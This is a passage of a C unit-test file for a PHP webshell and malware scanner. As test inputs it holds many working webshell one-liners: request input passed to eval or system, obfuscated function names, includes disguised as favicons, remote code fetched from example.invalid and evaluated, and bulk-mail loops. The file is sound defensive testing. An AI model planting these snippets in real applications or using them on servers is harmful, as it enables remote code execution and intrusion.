/* The PHP analysis: folding, decoding, input -> sink paths, callbacks,
 * decoded layers; the idioms of real applications that must stay quiet;
 * and hostile input (deep nesting, decode bombs, endless layers). Every
 * snippet is written here: variants of the techniques, not corpus files. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <zlib.h>

#include "php_expect.h"
#include "scan/php_analyze.h"
#include "scan/php_fold.h"

static void test_input_to_eval_and_command(void **state)
{
	(void)state;
	expect("<?php eval($_POST['x']);", "php.input_to_eval", HS_SEV_CRITICAL);
	assert_non_null(strstr(find("php.input_to_eval")->evidence, "$_POST['x']"));
	expect("<?php @assert(stripslashes(trim($_REQUEST['e'])));", "php.input_to_eval",
	       HS_SEV_CRITICAL);
	expect("<?php $c = $_GET['c']; $d = $c; system($d . ' 2>&1');", "php.input_to_command",
	       HS_SEV_CRITICAL);
	/* the path names the variables it went through */
	assert_non_null(strstr(find("php.input_to_command")->evidence, "$c -> $d"));
	expect("<?php echo `{$_GET['c']}`;", "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php passthru(\"$_COOKIE[c]\");", "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php $h = getallheaders(); eval($h['X-Run']);", "php.input_to_eval",
	       HS_SEV_CRITICAL);
	expect("<?php eval($_SERVER['HTTP_X_CODE']);", "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php eval(file_get_contents('php://input'));", "php.input_to_eval",
	       HS_SEV_CRITICAL);
	expect("<?php proc_open($_POST['c'], array(), $p);", "php.input_to_command",
	       HS_SEV_CRITICAL);
	/* a shell's -c: the input is the command */
	expect("<?php exec('/bin/sh -c ' . $_GET['c']);", "php.input_to_command", HS_SEV_CRITICAL);
}

static void test_folded_sources(void **state)
{
	(void)state;
	expect("<?php $p = ${\"_PO\" . \"ST\"}; eval($p['x']);", "php.input_to_eval",
	       HS_SEV_CRITICAL);
	expect("<?php system($GLOBALS['_GET']['c']);", "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php $n = '_REQ' . 'UEST'; $v = $$n; eval($v['z']);", "php.input_to_eval",
	       HS_SEV_CRITICAL);
	expect("<?php extract($_POST); system($cmd);", "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php parse_str($_SERVER['QUERY_STRING']); eval($code);", "php.input_to_eval",
	       HS_SEV_CRITICAL);
	expect("<?php $a = array_merge($_GET, $_POST); shell_exec($a['c']);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php foreach ($_POST as $k => $v) { $$k = $v; } eval($payload);",
	       "php.input_to_eval", HS_SEV_CRITICAL);
}

static void test_functions_objects(void **state)
{
	(void)state;
	expect("<?php function run($a) { return shell_exec($a); } echo run($_GET['c']);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php function src() { return $_POST['c']; } eval(src());", "php.input_to_eval",
	       HS_SEV_CRITICAL);
	expect("<?php x($_GET['q']); function x($v) { y($v); } function y($w) { eval($w); }",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php class K { public $c; function __destruct() { eval($this->c); } }\n"
	       "$k = new K(); $k->c = $_REQUEST['k'];",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php class L { function __construct($x) { $this->x = $x; }\n"
	       "function __toString() { system($this->x); return ''; } } echo new L($_GET['l']);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php $f = function($s) { eval($s); }; $f($_POST['s']);", "php.input_to_eval",
	       HS_SEV_CRITICAL);
	expect("<?php $g = fn($s) => assert($s); $g($_POST['s']);", "php.input_to_eval",
	       HS_SEV_CRITICAL);
	expect("<?php function w() { $a = func_get_args(); eval($a[0]); } w($_GET['w']);",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	/* object injection: the gadget's properties come from the request */
	expect(
	    "<?php class G { public $c; function __toString() { system($this->c); return ''; } }\n"
	    "echo unserialize(base64_decode($_POST['o']));",
	    "php.input_to_command", HS_SEV_CRITICAL);
	/* a folded callee in a callback's second argument */
	expect("<?php $a = array($_COOKIE['c']); array_walk($a, 'sh' . 'ell_' . 'exec');",
	       "php.input_to_command", HS_SEV_CRITICAL);
	/* a wrapper that tries one command function after another */
	expect("<?php function x1($c) { if (function_exists('exec')) { exec($c, $o); }\n"
	       "elseif (is_callable('shell_exec')) { $o = shell_exec($c); }\n"
	       "else { ob_start(); passthru($c); $o = ob_get_clean(); } return $o; }",
	       "php.command_wrapper", HS_SEV_MEDIUM);
	quiet("<?php function ver() { exec('git --version', $o); return $o; }\n"
	      "function run($c) { return shell_exec(escapeshellcmd($c)); }");
	/* a function calling itself stays bounded */
	expect("<?php function r($x) { r($x); eval($x); } r($_GET['r']);", "php.input_to_eval",
	       HS_SEV_CRITICAL);
}

static void test_callbacks(void **state)
{
	(void)state;
	expect("<?php call_user_func('assert', $_POST['a']);", "php.input_to_eval",
	       HS_SEV_CRITICAL);
	expect("<?php call_user_func_array('system', array($_GET['c']));", "php.input_to_command",
	       HS_SEV_CRITICAL);
	expect("<?php array_map('assert', array($_POST['m']));", "php.input_to_eval",
	       HS_SEV_CRITICAL);
	expect("<?php array_filter(array($_POST['f']), 'assert');", "php.input_to_eval",
	       HS_SEV_CRITICAL);
	expect("<?php $a = array($_GET['u'], 1); usort($a, 'system');", "php.input_to_command",
	       HS_SEV_CRITICAL);
	expect("<?php register_shutdown_function('passthru', $_REQUEST['s']);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php array_walk($_POST, function($v) { eval($v); });", "php.input_to_eval",
	       HS_SEV_CRITICAL);
	expect("<?php preg_replace_callback('/.+/', 'system', $_GET['p']);", "php.input_to_command",
	       HS_SEV_CRITICAL);
	expect("<?php $r = new ReflectionFunction('system'); $r->invoke($_GET['c']);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php filter_var($_GET['x'], FILTER_CALLBACK, array('options' => 'assert'));",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php array_intersect_ukey(array($_POST['k'] => 1), array(1), 'assert');",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	/* the callee itself is input */
	expect("<?php $_GET['f']($_GET['a']);", "php.dynamic_call_input", HS_SEV_CRITICAL);
	expect("<?php $f = $_POST['f']; call_user_func($f, 'x');", "php.dynamic_call_input",
	       HS_SEV_CRITICAL);
	expect("<?php ob_start('assert'); echo $_GET['x'];", "php.dynamic_dangerous_call",
	       HS_SEV_NONE + 0);
}

static void test_folding_callees(void **state)
{
	(void)state;
	expect("<?php $x = str_rot13('flfgrz'); $x($_GET['c']);", "php.obfuscated_callee",
	       HS_SEV_HIGH);
	assert_non_null(strstr(find("php.obfuscated_callee")->evidence, "str_rot13"));
	assert_non_null(find("php.input_to_command"));
	expect(
	    "<?php $f = chr(115) . chr(121) . chr(115) . chr(116) . chr(101) . chr(109); $f('id');",
	    "php.obfuscated_callee", HS_SEV_HIGH);
	expect("<?php $f = strrev('tressa'); $f($_POST['z']);", "php.input_to_eval",
	       HS_SEV_CRITICAL);
	expect("<?php $k = 'abcdefghijklmnopqrstuvwxyz'; $f = $k[4] . $k[23] . $k[4] . $k[2];\n"
	       "$f('whoami');",
	       "php.obfuscated_callee", HS_SEV_HIGH);
	expect("<?php $f = base64_decode('c2hlbGxfZXhlYw=='); echo $f('id');",
	       "php.obfuscated_callee", HS_SEV_HIGH);
	expect("<?php $f = hex2bin('73797374656d'); $f('id');", "php.obfuscated_callee",
	       HS_SEV_HIGH);
	expect("<?php $f = pack('H*', '706173737468727520'); $f = trim($f); $f('id');",
	       "php.obfuscated_callee", HS_SEV_HIGH);
	expect("<?php $f = implode('', array('as', 'se', 'rt')); $f($_POST['i']);",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php $f = join('', array_map('chr', array(101, 120, 101, 99))); $f('id');",
	       "php.obfuscated_callee", HS_SEV_HIGH);
	expect("<?php $f = str_replace('#', '', 'a#s#s#e#r#t'); $f($_GET['r']);",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php $f = preg_replace('/[0-9]/', '', 'sy1st2em'); $f('ls');",
	       "php.obfuscated_callee", HS_SEV_HIGH);
	expect("<?php $f = strtolower('SYSTEM'); $f('ls');", "php.obfuscated_callee", HS_SEV_HIGH);
	expect("<?php $f = substr('xxsystemyy', 2, 6); $f('ls');", "php.obfuscated_callee",
	       HS_SEV_HIGH);
	expect("<?php $f = sprintf('%s%s', 'sys', 'tem'); $f('ls');", "php.obfuscated_callee",
	       HS_SEV_HIGH);
	expect("<?php $f = urldecode('%73%79%73%74%65%6d'); $f('ls');", "php.obfuscated_callee",
	       HS_SEV_HIGH);
	expect("<?php $f = \"\\x73\\x79\\x73\\x74\\x65\\x6d\"; $f('ls');", "php.obfuscated_callee",
	       HS_SEV_HIGH);
	/* XOR and NOT of strings, numbers written without digits */
	expect("<?php $h = ('!' ^ '@') . 'ssert'; $h($_GET['x']);", "php.input_to_eval",
	       HS_SEV_CRITICAL);
	expect("<?php $o = ('>' > '<') + ('>' > '<'); $s = substr('xxassert', $o); $s($_POST[1]);",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php define('F', 'sys' . 'tem'); $f = F; $f($_GET['c']);", "php.input_to_command",
	       HS_SEV_CRITICAL);
	expect(
	    "<?php $a = array('k' => 'shell_', 'v' => 'exec'); $f = $a['k'] . $a['v']; $f('id');",
	    "php.obfuscated_callee", HS_SEV_HIGH);
	expect("<?php list($a, $b) = array('pass', 'thru'); $f = $a . $b; $f($_GET['p']);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php $c = 'cre' . 'ate_function'; $f = $c('', $_POST['b']); $f();",
	       "php.input_to_eval", HS_SEV_CRITICAL);
}

static void test_preg_e_and_includes(void **state)
{
	(void)state;
	expect("<?php preg_replace('/.*/e', $_POST['c'], '');", "php.input_to_eval",
	       HS_SEV_CRITICAL);
	expect("<?php $m = 'e'; preg_replace('/x/' . $m, $_REQUEST['c'], 'x');",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php include $_GET['page'];", "php.input_to_include", HS_SEV_HIGH);
	expect("<?php @include \"\\057h\\157me/u/public_html/wp-content/uploads/x.ico\";",
	       "php.obfuscated_include", HS_SEV_HIGH);
	expect("<?php include_once '/home/u/public_html/images/favicon_3ad1.ico';",
	       "php.include_nonphp", HS_SEV_HIGH);
	/* the directory not known, the picture's name is */
	expect("<?php @include dirname(__FILE__) . '/assets/img/favicon_' . 'a1b2.ico';",
	       "php.include_nonphp", HS_SEV_HIGH);
	expect("<?php include 'data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOw==';",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	/* the data: payload is a layer of its own, with the command in it */
	assert_non_null(find("php.input_to_command"));
	expect("<?php include 'php://input';", "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php $r = $_REQUEST; require 'data://text/plain;base64,' . $r['i'];",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php include base64_decode('L3RtcC8uY2FjaGUvaWNvbl8xLnBuZw==');",
	       "php.obfuscated_include", HS_SEV_HIGH);
	expect("<?php file_put_contents($_SERVER['DOCUMENT_ROOT'] . '/x/y.php',\n"
	       "  base64_decode('PD9waHAgZWNobyAxOw=='));",
	       "php.remote_code_drop", HS_SEV_HIGH);
	expect(
	    "<?php file_put_contents(__DIR__ . '/c.php', file_get_contents('http://e.invalid/a'));",
	    "php.remote_code_drop", HS_SEV_HIGH);
	expect("<?php eval(file_get_contents('http://example.invalid/x.txt'));",
	       "php.remote_code_exec", HS_SEV_HIGH);
	expect("<?php copy('http://example.invalid/s.txt', 'cache.php');", "php.remote_code_drop",
	       HS_SEV_HIGH);
	expect("<?php $s = fsockopen($_GET['h'], 80); $code = fread($s, 4096); eval($code);",
	       "php.remote_code_exec", HS_SEV_HIGH);
}

/* base64 of s, as PHP's base64_encode would write it */
static char *b64(const char *s, size_t n)
{
	struct fbuf b = {0};
	fbuf_reset(&b, 1u << 26);
	assert_true(fold_base64_encode(&b, (const unsigned char *)s, n));
	char *o = malloc(b.n + 1);
	memcpy(o, b.p, b.n);
	o[b.n] = 0;
	fbuf_free(&b);
	return o;
}

/* raw deflate of s (what gzinflate undoes) */
static size_t deflate_raw(const char *s, size_t n, unsigned char *out, size_t cap)
{
	z_stream z;
	memset(&z, 0, sizeof(z));
	assert_int_equal(deflateInit2(&z, 9, Z_DEFLATED, -15, 9, Z_DEFAULT_STRATEGY), Z_OK);
	z.next_in = (unsigned char *)s;
	z.avail_in = (uInt)n;
	z.next_out = out;
	z.avail_out = (uInt)cap;
	assert_int_equal(deflate(&z, Z_FINISH), Z_STREAM_END);
	size_t got = cap - z.avail_out;
	deflateEnd(&z);
	return got;
}

static void test_decoded_layers(void **state)
{
	(void)state;
	const char *inner = "if (isset($_GET['z'])) { system($_GET['z']); }";
	char *e = b64(inner, strlen(inner));
	char src[4096];
	snprintf(src, sizeof(src), "<?php function theme_x() {}\neval(base64_decode('%s'));", e);
	expect(src, "php.decoded_layer_exec", HS_SEV_MEDIUM);
	const struct php_hit *h = find("php.input_to_command");
	assert_non_null(h);
	assert_int_equal(h->layer, 1);
	assert_int_equal(res.nlayers, 1);
	assert_non_null(memmem(res.layers[0].buf, res.layers[0].len, "system($_GET", 12));
	free(e);

	/* gzinflate(base64_decode(...)) with the payload built here */
	unsigned char z[1024];
	size_t zl = deflate_raw(inner, strlen(inner), z, sizeof(z));
	e = b64((const char *)z, zl);
	snprintf(src, sizeof(src), "<?php $x = '%s'; eval(gzinflate(base64_decode($x)));", e);
	expect(src, "php.input_to_command", HS_SEV_CRITICAL);
	assert_int_equal(find("php.input_to_command")->layer, 1);
	free(e);

	/* str_rot13 + strrev of a layer */
	expect("<?php eval(str_rot13(strrev(';)]\\'p\\'[GFBC_$(gerffn')));", "php.input_to_eval",
	       HS_SEV_CRITICAL);
	/* an unknown payload decoded into eval is suspicious on its own */
	expect("<?php $d = file_get_contents(__FILE__); eval(gzinflate(base64_decode(substr($d, "
	       "9))));",
	       "php.obfuscated_eval", HS_SEV_MEDIUM);
}

static void test_uploads_writes_mail(void **state)
{
	(void)state;
	expect("<?php move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);",
	       "php.upload_write", HS_SEV_HIGH);
	expect("<?php rename($_FILES['f']['tmp_name'], $_FILES['f']['name']);", "php.upload_write",
	       HS_SEV_HIGH);
	quiet("<?php rename('cache.tmp', 'cache.json');");
	expect("<?php file_put_contents($_POST['n'], $_POST['d']);", "php.input_to_file_write",
	       HS_SEV_HIGH);
	expect("<?php $h = fopen($_GET['p'], 'w'); fwrite($h, $_POST['c']);",
	       "php.input_to_file_write", HS_SEV_HIGH);
	expect("<?php foreach (explode(\"\\n\", $_POST['emails']) as $to) "
	       "{ mail($to, $_POST['s'], $_POST['b']); }",
	       "php.mass_mail_loop", HS_SEV_HIGH);
	expect("<?php $l = file($_FILES['list']['tmp_name']); for ($i = 0; $i < count($l); $i++) "
	       "mail($l[$i], 's', 'b');",
	       "php.mass_mail_loop", HS_SEV_HIGH);
	expect(
	    "<?php $m = new PHPMailer(); $fp = fopen('list.txt', 'r');\n"
	    "while (($line = fgets($fp)) !== false) { $m->addAddress(trim($line)); $m->Send(); }",
	    "php.mass_mail_loop", HS_SEV_HIGH);
	expect("<?php $l = array_filter(array_map('trim', explode(',', $_POST['to'] ?? '')));\n"
	       "foreach ($l as $a) { mail($a, 's', 'b'); }",
	       "php.mass_mail_loop", HS_SEV_HIGH);
	expect("<?php iterator_apply(new ArrayIterator(array(1)), 'system', array($_GET['a']));",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php $w = new COM('WScript.Shell'); $w->exec('cmd.exe /c ' . $_POST['c']);",
	       "php.input_to_command", HS_SEV_CRITICAL);
}

/* Request input under other names: filter_input() and the HTTP_ variables
 * of the environment (CGI/FPM); a number filter makes it harmless. */
static void test_filter_input_getenv_sources(void **state)
{
	(void)state;
	expect("<?php eval(filter_input(INPUT_POST, 'c'));", "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php $x = filter_input(INPUT_COOKIE, 'k', FILTER_UNSAFE_RAW); passthru($x);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php $a = filter_input_array(INPUT_GET); system($a['c']);", "php.input_to_command",
	       HS_SEV_CRITICAL);
	expect("<?php system(getenv('HTTP_X_CMD'));", "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php eval(filter_input(INPUT_SERVER, 'HTTP_X_CODE'));", "php.input_to_eval",
	       HS_SEV_CRITICAL);
	quiet(
	    "<?php $id = filter_input(INPUT_GET, 'id', FILTER_VALIDATE_INT); system('ls ' . $id);");
	quiet("<?php system('ls ' . escapeshellarg(getenv('PATH')));");
	quiet("<?php $m = filter_input(INPUT_SERVER, 'REQUEST_METHOD'); eval('return 1;');");
}

/* A write of request data reached only in a method nothing in the file
 * calls (an application's upload action, run by its framework) is medium;
 * the same code at the top of the file, or called from there, is high. */
static void test_uncalled_writes_are_medium(void **state)
{
	(void)state;
	static const char cls[] =
	    "<?php class Kiosk { var $dir = '../kiosk'; var $p = array();\n"
	    "function execute() { if (isset($_FILES['np'])) { $f = $_FILES['np'];\n"
	    "  $this->p[] = array('name' => $f['name'], 'content' => "
	    "file_get_contents($f['tmp_name'])); } }\n"
	    "function save() { foreach ($this->p as $q) { $fp = fopen($this->dir . '/' . "
	    "$q['name'], 'w');\n"
	    "  fwrite($fp, $q['content']); fclose($fp); } } }";
	expect(cls, "php.input_to_file_write", HS_SEV_MEDIUM);
	assert_int_equal(find("php.input_to_file_write")->sev, HS_SEV_MEDIUM);
	assert_non_null(
	    strstr(find("php.input_to_file_write")->evidence, "nothing in the file calls"));
	static const char up[] =
	    "<?php class U { function go() {\n"
	    "move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']); } }";
	expect(up, "php.upload_write", HS_SEV_MEDIUM);
	assert_int_equal(find("php.upload_write")->sev, HS_SEV_MEDIUM);
	/* called from the top of the file: the request reaches it */
	static const char called[] =
	    "<?php class U { function go() {\n"
	    "move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']); } }\n"
	    "$u = new U(); $u->go();";
	expect(called, "php.upload_write", HS_SEV_HIGH);
	static const char fn[] = "<?php function w($n, $d) { file_put_contents($n, $d); }\n"
	                         "w($_POST['n'], $_POST['d']);";
	expect(fn, "php.input_to_file_write", HS_SEV_HIGH);
}

/* What real applications do, that is not a webshell or a mailer. */
static void test_application_idioms_are_quiet(void **state)
{
	(void)state;
	/* a compiled template */
	quiet("<?php $tpl = file_get_contents($this->cache . '/t.php'); eval('?>' . $tpl);");
	/* a fixed command with escaped arguments */
	quiet("<?php exec('convert ' . escapeshellarg($_FILES['img']['tmp_name']) . ' -resize 64 '"
	      " . escapeshellarg($out), $o, $rc);");
	quiet("<?php system('/usr/bin/uptime');");
	/* an updater downloading a zip */
	quiet("<?php $tmp = download_url('https://downloads.example.org/latest.zip');\n"
	      "copy('https://downloads.example.org/latest.zip', $dir . '/latest.zip');");
	/* an upload handler that checks the type and writes into uploads */
	quiet("<?php $ext = strtolower(pathinfo($_FILES['f']['name'], PATHINFO_EXTENSION));\n"
	      "if (in_array($ext, array('jpg', 'png')) && getimagesize($_FILES['f']['tmp_name']))\n"
	      "  move_uploaded_file($_FILES['f']['tmp_name'], $uploads . '/' . "
	      "md5($_FILES['f']['name'])"
	      " . '.' . $ext);");
	/* a newsletter over subscribers from the database, behind a capability check */
	quiet("<?php if (current_user_can('manage_options')) {\n"
	      "  foreach ($wpdb->get_results('SELECT email FROM subs') as $s)\n"
	      "    wp_mail($s->email, $_POST['subject'], $_POST['body']); }");
	/* a validated number in a fixed command line */
	quiet("<?php $n = isset($_GET['n']) && is_numeric($_GET['n']) ? $_GET['n'] : 6;\n"
	      "popen('rrdtool graph --start -' . $n . 'h', 'r');");
	/* a host name in a fixed config path */
	quiet("<?php $h = preg_replace('/:.*/', '', $_SERVER['HTTP_HOST']);\n"
	      "if (file_exists('/etc/app/config-' . $h . '.php')) require_once '/etc/app/config-' "
	      ". $h . '.php';");
	/* dispatch through callbacks of plain functions */
	quiet("<?php $a = array_map('trim', $_POST); usort($rows, 'cmp'); "
	      "call_user_func(array($this, 'x'));");
	/* a language file that lists function names */
	quiet("<?php $language_data = array('KEYWORDS' => array(1 => array('eval', 'system',\n"
	      "'exec', 'shell_exec', 'passthru', 'assert', 'base64_decode', 'create_function')));");
	/* constants and plain includes */
	quiet("<?php require_once ABSPATH . 'wp-settings.php'; include __DIR__ . '/x.php';\n"
	      "require_once 'templates/notice.txt';");
	/* a contact form: input in the body of one mail */
	quiet("<?php mail('admin@example.org', 'Contact', $_POST['message']);");
	/* a sanitized name */
	quiet("<?php $n = preg_replace('/[^a-z0-9]/', '', $_GET['n']); include 'pages/' . $n . "
	      "'.php';");
}

/* Idioms of applications kept out of the tuning corpus (the held-out clean
 * corpus, tests/eval/build-clean-heldout.sh) that got high or critical
 * findings, each next to the attack it must still catch. */
static void test_heldout_app_idioms(void **state)
{
	(void)state;
	/* a template engine running the PHP it compiled through a data: stream */
	quiet("<?php class Tpl { static function load($code) {\n"
	      "  return include('data://text/plain,' . urlencode('<?php ' . $code));\n"
	      "} }");
	expect("<?php include('data://text/plain,' . urlencode($_POST['code']));",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php include 'data://text/plain;base64,' . $_COOKIE['p'];", "php.input_to_eval",
	       HS_SEV_CRITICAL);
	expect("<?php function ld($p) { return include('data:text/plain;base64,' . $p); }",
	       "php.obfuscated_eval", HS_SEV_MEDIUM);
	/* a form validator: request keys checked against a word whitelist, then
	 * written into a condition that is evaluated */
	quiet("<?php function check($name, $cond) {\n"
	      "  foreach ($_REQUEST[$name] as $k => $v) {\n"
	      "    if (!preg_match('/^([a-zA-Z0-9_]+)$/', $k)) return false;\n"
	      "    $e = str_replace('{}', '$_REQUEST[\"' . $name . '\"][\"' . $k . '\"]', $cond);\n"
	      "    if (!eval('return (' . $e . ');')) return false;\n"
	      "  }\n"
	      "  return true; }");
	/* a pattern that is no whitelist leaves the input free */
	expect("<?php $k = $_GET['k']; if (!preg_match('/^[a-z]+/', $k)) exit;\n"
	       "eval('return ' . $k . ';');",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php $k = $_GET['k']; if (!preg_match('/^[a-z ;()]+$/', $k)) exit; eval($k);",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php $k = $_GET['k']; if (!preg_match('/^\\w+$/m', $k)) exit; eval($k);",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	/* another variable was checked */
	expect("<?php $k = $_GET['k']; $j = $_GET['j']; preg_match('/^\\w+$/', $j); eval($k);",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	/* a helper program under an install directory the config defines, its
	 * command line escaped: the input is an argument, not the command */
	expect("<?php function probe($args) {\n"
	       "  $c = escapeshellcmd(APP_BIN_DIR . \"/probe-cameras.pl $args\");\n"
	       "  exec($c, $out, $rc); return $out; }\n"
	       "probe('scan ' . $_REQUEST['iface']);",
	       "php.input_to_command_arg", HS_SEV_MEDIUM);
	assert_null(find("php.input_to_command"));
	/* escapeshellcmd() of the whole line from the request is still a shell */
	expect("<?php exec(escapeshellcmd($_REQUEST['c']), $o);", "php.input_to_command",
	       HS_SEV_CRITICAL);
	expect("<?php exec($bin . ' ' . $_REQUEST['c'], $o);", "php.input_to_command",
	       HS_SEV_CRITICAL);
}

static void test_not_php_code(void **state)
{
	(void)state;
	const char *md = "# Docs\nCall `shell_exec($_GET['x'])` like this:\n\n```php\n"
	                 "<?php shell_exec($_GET['x']); ?>\n```\n";
	assert_false(php_is_code((const unsigned char *)md, strlen(md), "md"));
	const char *js = "var s = '<?php eval($_POST[1]); ?>'; shell_exec(x);";
	assert_false(php_is_code((const unsigned char *)js, strlen(js), "js"));
	const char *notag = "shell_exec($_GET['x']);";
	assert_false(php_is_code((const unsigned char *)notag, strlen(notag), "php"));
	const char *php = "<?php shell_exec($_GET['x']);";
	assert_true(php_is_code((const unsigned char *)php, strlen(php), "txt"));
	assert_true(php_is_code((const unsigned char *)php, strlen(php),
	                        "js")); /* it starts with the tag */
	struct php_result r;
	assert_false(php_analyze((const unsigned char *)md, strlen(md), "md", &r));
}

static void test_hostile_nesting(void **state)
{
	(void)state;
	size_t depth = 100000;
	char *s = malloc(3 * depth + 64);
	strcpy(s, "<?php eval(");
	size_t n = strlen(s);
	memset(s + n, '(', depth);
	n += depth;
	memcpy(s + n, "$_GET['x']", 10);
	n += 10;
	memset(s + n, ')', depth);
	n += depth;
	strcpy(s + n, ");");
	run(s);
	assert_true(res.truncated);
	/* braces: statements nested as deep */
	strcpy(s, "<?php ");
	n = 6;
	memset(s + n, '{', depth);
	n += depth;
	memcpy(s + n, "eval($_GET['y']);", 17);
	n += 17;
	memset(s + n, '}', depth);
	s[n + depth] = 0;
	run(s);
	assert_true(res.truncated);
	/* unbalanced */
	memset(s, '(', 3 * depth);
	memcpy(s, "<?php f", 7);
	s[3 * depth] = 0;
	run(s);
	free(s);
}

static void test_hostile_decoding(void **state)
{
	(void)state;
	/* a decode bomb: 64 MB of zeros in a few KB of deflate */
	size_t big = 64u * 1024 * 1024;
	char *zeros = calloc(1, big);
	unsigned char *z = malloc(1u << 20);
	size_t zl = deflate_raw(zeros, big, z, 1u << 20);
	free(zeros);
	char *e = b64((const char *)z, zl);
	free(z);
	size_t sl = strlen(e) + 64;
	char *src = malloc(sl);
	snprintf(src, sl, "<?php eval(gzinflate(base64_decode('%s')));", e);
	free(e);
	run(src);
	size_t total = 0;
	for (size_t i = 0; i < res.nlayers; i++)
		total += res.layers[i].len;
	assert_true(total <= 16u * 1024 * 1024);
	assert_non_null(find("php.obfuscated_eval")); /* not decoded, still suspicious */
	free(src);

	/* 100 nested layers of eval(base64_decode(...)) */
	char *cur = strdup("system($_GET['deep']);");
	for (int i = 0; i < 100; i++) {
		char *b = b64(cur, strlen(cur));
		size_t l = strlen(b) + 32;
		char *next = malloc(l);
		snprintf(next, l, "eval(base64_decode('%s'));", b);
		free(b);
		free(cur);
		cur = next;
		if (strlen(cur) > 4u * 1024 * 1024)
			break;
	}
	size_t l = strlen(cur) + 8;
	src = malloc(l);
	snprintf(src, l, "<?php %s", cur);
	free(cur);
	run(src);
	assert_non_null(find("php.decoded_layer_exec"));
	assert_true(res.nlayers <= PHP_MAX_LAYERS);
	free(src);

	/* a string doubled until the bound */
	size_t reps = 200000;
	src = malloc(16 + reps * 7);
	strcpy(src, "<?php $a='xy';");
	char *p = src + strlen(src);
	for (size_t i = 0; i < reps; i++, p += 7)
		memcpy(p, "$a.=$a;", 7);
	*p = 0;
	run(src);
	free(src);
}

static void test_fold_primitives(void **state)
{
	(void)state;
	struct fbuf b = {0};
	fbuf_reset(&b, 64);
	assert_true(fold_base64(&b, (const unsigned char *)"c3lz\ndGVt", 9));
	assert_memory_equal(b.p, "system", 6);
	fbuf_reset(&b, 64);
	assert_true(fold_rot13(&b, (const unsigned char *)"flfgrz", 6));
	assert_memory_equal(b.p, "system", 6);
	fbuf_reset(&b, 64);
	assert_false(fold_hex2bin(&b, (const unsigned char *)"abc", 3)); /* odd length */
	fbuf_reset(&b, 64);
	assert_true(
	    fold_bitwise(&b, (const unsigned char *)"ab", 2, (const unsigned char *)"   ", 3, '|'));
	assert_int_equal(b.n, 3);
	fbuf_reset(&b, 64);
	assert_true(fold_uudecode(&b, (const unsigned char *)"&<WES=&5M\n`\n", 12));
	assert_memory_equal(b.p, "system", 6);
	fbuf_reset(&b, 64);
	assert_true(fold_entities(&b, (const unsigned char *)"&lt;?php &#x41;&#66;", 20));
	assert_memory_equal(b.p, "<?php AB", 8);
	fbuf_reset(&b, 64);
	assert_true(
	    fold_trim(&b, (const unsigned char *)"xxsysxx", 7, (const unsigned char *)"x", 1, 'b'));
	assert_memory_equal(b.p, "sys", 3);
	fbuf_reset(&b, 4); /* the bound */
	assert_false(fold_strrev(&b, (const unsigned char *)"abcdef", 6));
	fbuf_free(&b);
}

/* Loops over known data are run (bounded), so a loop-built name or payload
 * is known after the loop. */
static void test_loops_and_increments(void **state)
{
	(void)state;
	/* XOR with a repeating key, one character an iteration ("system") */
	expect("<?php $s = \"\\x12\\x1b\\x10\\x15\\x07\\x0e\"; $k = 'abc'; $o = '';\n"
	       "for ($i = 0; $i < strlen($s); $i++) { $o .= $s[$i] ^ $k[$i % strlen($k)]; }\n"
	       "$o($_POST['z']);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	/* a shift cipher with two loop variables and a pre-increment */
	expect("<?php $c = 'bttfsu'; $o = '';\n"
	       "for ($i = 0, $n = strlen($c); $i < $n; ++$i) $o .= chr(ord($c[$i]) - 1);\n"
	       "$o($_GET['q']);",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	/* an array of characters joined by a loop, inside a function */
	expect("<?php function t($a) { $p = array('e','x','e','c'); $f = '';\n"
	       "for ($j = 0; $j < count($p); $j++) { $f .= $p[$j]; } $f($a); }\n"
	       "t($_REQUEST['x']);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	/* a payload decrypted by a loop and evaluated: the layer is read */
	expect("<?php $e = 'fwbm)%`QPTU\\\\(y(^*<'; $d = '';\n"
	       "for ($i = 0; $i < strlen($e); $i++) $d .= chr(ord($e[$i]) - 1);\n"
	       "eval($d);",
	       "php.input_to_eval", HS_SEV_CRITICAL);
